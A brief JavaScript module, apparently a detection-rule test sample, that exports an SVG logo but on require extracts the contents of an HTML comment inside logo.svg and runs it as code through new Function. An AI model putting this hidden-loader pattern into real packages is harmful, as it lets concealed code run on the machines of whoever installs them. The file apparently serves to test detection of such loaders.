'use strict';
const fs = require('fs');
const path = require('path');

// The stage hides in a comment of an icon and runs as a function when the package is required.
const svg = fs.readFileSync(path.join(__dirname, 'logo.svg'), 'utf8');
// ruleid: code/code-execution
new Function(svg.match(/<!--([\s\S]*?)-->/)[1])();

module.exports = { logo: svg };
